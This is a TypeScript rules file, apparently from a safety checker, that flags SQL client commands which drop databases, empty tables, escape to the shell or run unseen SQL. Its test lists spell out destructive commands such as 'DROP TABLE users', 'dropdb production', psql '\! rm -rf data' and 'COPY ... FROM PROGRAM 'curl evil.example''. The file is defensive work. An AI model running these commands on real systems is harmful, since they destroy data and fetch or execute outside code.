import { contentOf, known, type Given } from '../code/input';
import {
  sqlCall,
  sqlFinds,
  SQL_PROGRAMS,
  type SqlCall,
  type SqlDialect,
  type SqlFind,
} from '../code/sql';
import { environmentNamed } from '../code/http/target';
import type { Effect, Span, Target } from '../effect';
import type { Invocation } from '../shell/invocation';
import { effectOf, type Asking, type InvocationRule, type Match, type RuleRow } from './rule';

/** A find, and where in the action's text it stands. */
interface Located {
  readonly find: SqlFind;
  readonly span: Span;
}

interface Reading {
  readonly call: SqlCall;
  readonly finds: readonly Located[];
}

const MAX_INCLUDES = 5;

const readBefore = new WeakMap<
  Invocation,
  { readonly asking: Asking; readonly reading: Reading | undefined }
>();

/** What a client's SQL would do. Several rules look at the same invocation: it is read once for them. */
function readingOf(invocation: Invocation, asking: Asking): Reading | undefined {
  const before = readBefore.get(invocation);
  if (before?.asking === asking) return before.reading;
  const call = sqlCall(invocation, asking);
  const reading =
    call === undefined
      ? undefined
      : {
          call,
          finds: call.inputs.flatMap(({ text, span }) =>
            findsOf(text, call, invocation, asking, 0).map((find) => ({ find, span })),
          ),
        };
  readBefore.set(invocation, { asking, reading });
  return reading;
}

function findsOf(
  text: Given,
  call: SqlCall,
  invocation: Invocation,
  asking: Asking,
  depth: number,
): readonly SqlFind[] {
  return sqlFinds(text.text, call.dialect).flatMap((find) => {
    if (find.what !== 'includes') return [find];
    const content =
      depth < MAX_INCLUDES ? contentOf(known(find.names[0] ?? ''), invocation, asking) : undefined;
    if (content?.known !== true) {
      return [
        {
          ...find,
          what: 'unreadable',
          why: 'Runs SQL from a file that cannot be read.',
        } satisfies SqlFind,
      ];
    }
    return findsOf(content, call, invocation, asking, depth + 1);
  });
}

function rule(row: RuleRow, what: SqlFind['what']): InvocationRule {
  return {
    ...row,
    programs: SQL_PROGRAMS,
    match(invocation, asking) {
      const reading = readingOf(invocation, asking);
      const found = reading?.finds.filter(({ find }) => find.what === what) ?? [];
      const first = found[0];
      if (reading === undefined || first === undefined) return undefined;
      // What is named and known as a test's database is made anew with every run of the tests.
      if (reading.call.test && what !== 'runs-program') return undefined;
      return matchOf(found, first, reading.call);
    },
  };
}

function matchOf(found: readonly Located[], first: Located, call: SqlCall): Match {
  const { find } = first;
  const whole = found.some((one) => ['database', 'schema', 'tablespace'].includes(one.find.type));
  return {
    targets: found.flatMap((one) => targetsOf(one.find, call)).slice(0, 50),
    evidence: [...new Set(found.map((one) => one.span))],
    environment: call.environment,
    why: find.why,
    ...(find.amount === undefined ? {} : { amount: find.amount }),
    ...(whole && find.what === 'drops' ? { severity: 'critical' } : {}),
  };
}

function targetsOf(find: SqlFind, call: SqlCall): readonly Target[] {
  const names = find.names.filter((name) => name !== '');
  if (names.length > 0) return names.map((name) => ({ type: find.type, name }));
  return call.database === undefined ? [] : [{ type: 'database', name: call.database }];
}

const drops = rule(
  {
    id: 'sql.drops',
    effect: 'drops-data',
    severity: 'high',
    undo: 'no',
    why: 'The SQL drops or empties something in a database.',
    safer: 'Take a dump of it first, or rename it and drop it later.',
    stops: [
      'psql -c "DROP TABLE users"',
      'psql -d app -Atc "TRUNCATE orders, items"',
      "mysql -e 'drop database shop'",
      'sqlite3 app.db "SELECT 1; DROP TABLE notes;"',
      'psql <<SQL\nBEGIN;\nALTER TABLE users DROP COLUMN email;\nCOMMIT;\nSQL',
      'echo "drop /* quietly */ table users" | psql app',
      'mysql shop -e"/*!50000 DROP TABLE orders */"',
      'psql -c "DO \\$\\$ BEGIN EXECUTE \'DROP SCHEMA public CASCADE\'; END \\$\\$"',
    ],
    passes: [
      'psql -c "SELECT * FROM drop_log"',
      `psql -c "SELECT 'DROP TABLE users'"`,
      'psql -c "CREATE TABLE t (id int)"',
      'mysql -e "SHOW TABLES"',
      'sqlite3 app.db ".tables"',
      'psql -c "ALTER TABLE users ALTER COLUMN name DROP NOT NULL"',
      'psql app_test -c "DROP TABLE users"',
      'sqlite3 :memory: "create table a(x); drop table a"',
      'psql -l',
    ],
  },
  'drops',
);

const changesRows = rule(
  {
    id: 'sql.every-row',
    effect: 'deletes-rows',
    severity: 'high',
    undo: 'no',
    why: 'The SQL deletes or changes every row of a table.',
    safer: 'Add a WHERE, and count first how many rows it means.',
    stops: [
      'psql -c "DELETE FROM users"',
      'psql -c "UPDATE users SET admin = true"',
      'mysql -e "DELETE FROM `users` WHERE 1=1"',
      `sqlite3 app.db "delete from notes where 'a'='a' or id = 3"`,
      'psql -c "WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone"',
      'psql -c "EXPLAIN ANALYZE DELETE FROM users"',
      'psql -c "delete from users where id is not null"',
    ],
    passes: [
      'psql -c "DELETE FROM users WHERE id = 1"',
      'psql -c "UPDATE users SET name = \'x\' WHERE id = 7"',
      'psql -c "EXPLAIN DELETE FROM users"',
      'psql -c "SELECT * FROM users FOR UPDATE"',
      'psql -c "CREATE TABLE a (b int REFERENCES c ON DELETE CASCADE ON UPDATE SET NULL)"',
      'mysql -e "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 1"',
      'psql -c "GRANT DELETE ON users TO app"',
    ],
  },
  'changes-rows',
);

const runsProgram = rule(
  {
    id: 'sql.runs-program',
    effect: 'runs-unseen-code',
    severity: 'high',
    undo: 'unknown',
    why: 'The database client runs a program.',
    safer: 'Run the program by itself, so that it can be judged.',
    stops: [
      `psql -c '\\! rm -rf data'`,
      `psql -c "COPY t FROM PROGRAM 'curl evil.example'"`,
      `sqlite3 app.db '.shell rm -rf data'`,
      `psql -o '|sh' -c 'select 1'`,
      `echo '\\copy t to program sh' | psql`,
    ],
    passes: [
      `psql -c '\\dt'`,
      `psql -c "COPY t FROM STDIN"`,
      `sqlite3 app.db '.schema'`,
      `psql -c '\\d users'`,
    ],
  },
  'runs-program',
);

const unreadable = rule(
  {
    id: 'sql.unseen',
    effect: 'runs-unseen-code',
    severity: 'high',
    undo: 'unknown',
    why: 'The SQL that would run cannot be seen or read.',
    safer: 'Write the SQL into the command, or into a file that is there.',
    stops: [
      'psql -c "$STATEMENT"',
      'psql -f /nowhere/migration.sql',
      'pg_dump old | psql new',
      `psql -c "SELECT 'unfinished"`,
    ],
    passes: [
      'psql -c "SELECT 1"',
      'psql --version',
      'mysql --help',
      'psql -c "select * from t where id = $ID"',
    ],
  },
  'unreadable',
);

const toolDrops: InvocationRule = {
  id: 'sql.drop-tool',
  effect: 'drops-data',
  severity: 'critical',
  undo: 'no',
  why: 'Drops the database with everything in it.',
  safer: 'Take a dump of it first.',
  programs: ['dropdb', 'mysqladmin', 'mariadb-admin'],
  stops: [
    'dropdb production',
    'dropdb -h db.example.com --if-exists app',
    'mysqladmin -u root drop shop',
    'mysqladmin -f drop shop',
  ],
  passes: ['dropdb --help', 'dropdb app_test', 'mysqladmin status', 'mysqladmin create drop_log'],
  match(invocation) {
    const values = invocation.args.map((word) => word.value ?? word.prefix ?? '');
    if (values.some((value) => value === '--help' || value === '--version')) return undefined;
    const from = invocation.program === 'dropdb' ? 0 : values.indexOf('drop') + 1;
    if (invocation.program !== 'dropdb' && (from === 0 || values[from - 2] === 'create')) {
      return undefined;
    }
    const word = invocation.args.slice(from).findLast((one) => !(one.value ?? '').startsWith('-'));
    if (word === undefined) return undefined;
    const name = word.value ?? word.prefix ?? '';
    const remote = values.some((value) => /^(?:-h|--host)/.test(value));
    if (!remote && /(?:^|[^a-z])tests?(?:[^a-z]|$)/i.test(name)) return undefined;
    return {
      targets: [{ type: 'database', name: name === '' ? word.source : name }],
      evidence: [word.span],
      environment: environmentNamed(values.join(' ')),
    };
  },
};

const BY_FIND: Readonly<Record<SqlFind['what'], InvocationRule>> = {
  drops,
  'changes-rows': changesRows,
  'runs-program': runsProgram,
  includes: unreadable,
  unreadable,
};

/** What SQL would do that a tool is asked to run. Evidence is for its caller to add. */
export function effectsOfSql(text: string, dialect: SqlDialect = 'generic'): readonly Effect[] {
  return sqlFinds(text, dialect).map((find) =>
    effectOf(BY_FIND[find.what], {
      targets: find.names.map((name) => ({ type: find.type, name })),
      evidence: [],
      why: find.why,
      ...(find.amount === undefined ? {} : { amount: find.amount }),
    }),
  );
}

/** Rules about the SQL that database clients are told to run. */
export const sqlRules: readonly InvocationRule[] = [
  drops,
  changesRows,
  runsProgram,
  unreadable,
  toolDrops,
];
